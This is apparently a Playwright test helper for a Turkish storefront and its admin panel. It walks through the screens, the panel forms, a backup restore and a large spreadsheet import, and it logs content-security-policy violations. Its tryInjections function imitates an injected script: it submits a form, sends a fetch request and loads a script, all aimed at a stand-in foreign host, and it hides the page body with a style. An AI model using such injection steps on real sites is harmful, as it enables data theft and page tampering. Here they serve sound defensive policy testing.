import { expect, type Page } from '@playwright/test';

import { workbook } from '../../../src/panel/data/testing/workbook.ts';
import { advance } from './clock.ts';
import { expectStorefront, FIRST_PART, openPart } from './detail.ts';
import { openStorefrontAfterWelcome } from './opening.ts';
import { chooseFile, downloadFrom } from './owner/files.ts';
import { closePanel, formOf, openPanel, press, tabOf } from './owner/owner.ts';
import { addProduct, editContact } from './owner/ownerForms.ts';

/** So many that a library might start a worker to unpack them. */
const manyLines = Array.from({ length: 20_000 }, (_, at) => [`Parça ${at}`, at]);

const ADDED = 'Politika altında eklenen';

/** Logs what the policy has blocked as an error of the page. Call it before the page is opened. */
export async function reportViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (violation) => {
      console.error(`policy: ${violation.effectiveDirective} blocked ${violation.blockedURI}`);
    });
  });
}

/** Storefront, welcome modal, menu, carousels, detail. */
export async function visitEveryScreen(page: Page): Promise<void> {
  await openStorefrontAfterWelcome(page);
  const opener = page.getByRole('button', { name: 'Menüyü aç' });
  if (await opener.isVisible()) {
    await opener.click();
    await page.getByRole('button', { name: 'Menüyü kapat' }).click();
  }
  await press(page, 'Sonraki slayt');
  await advance(page, 15_000);
  for (const part of await page.getByRole('article').all()) await part.scrollIntoViewIfNeeded();
  await page.getByRole('contentinfo').scrollIntoViewIfNeeded();
  await openPart(page, FIRST_PART);
  await press(page, 'Geri Dön');
  await expectStorefront(page);
}

/** Login, each tab with its form, a form saved, a backup downloaded and restored. */
export async function useWholePanel(page: Page): Promise<void> {
  await openPanel(page);
  await addProduct(page, ADDED);
  for (const [tab, button] of [
    ['Ürünler (5)', 'Yeni Ürün'],
    ['Markalar (10)', 'Yeni Marka'],
    ['Slider (3)', 'Yeni Slide'],
  ] as const) {
    await tabOf(page, tab).click();
    await press(page, button);
    await expect(formOf(page, button)).toBeVisible();
    await press(formOf(page, button), 'İptal');
  }
  await editContact(page, { Telefon: '0532 111 22 33' });
  const { text } = await downloadFrom(page, 'Yedek al');
  await tabOf(page, 'Ürünler (5)').click();
  await press(page, `Sil: ${ADDED}`);
  await chooseFile(page, 'Yedekten yükle', 'yedek.json', text);
  await press(page, 'Yedeği yükle');
  await press(page, 'Tamam');
  await expect(tabOf(page, 'Ürünler (5)')).toBeVisible();
  const file = workbook([['Ürün', 'Fiyat'], ...manyLines]);
  const content = Buffer.from(await file.arrayBuffer());
  await chooseFile(page, 'Listeden ekle', 'liste.xlsx', content);
  await expect(page.getByRole('definition')).toHaveText(['0', '0', '0', '20000']);
  await press(page, 'Vazgeç');
  await closePanel(page);
}

/** Does in the page what an injected script would try. */
export async function tryInjections(page: Page): Promise<void> {
  await page.evaluate(() => {
    const [frame, style, form, script] = [
      document.createElement('iframe'),
      document.createElement('style'),
      document.createElement('form'),
      document.createElement('script'),
    ];
    frame.src = 'https://foreign.example/';
    style.append('body { display: none }');
    form.action = 'https://foreign.example/';
    document.body.append(frame, style, form);
    form.submit();
    void fetch('https://foreign.example/').catch(() => {});
    // Trusted Types throw.
    try {
      script.src = 'https://foreign.example/script.js';
    } catch {
      document.body.append(script);
    }
  });
}
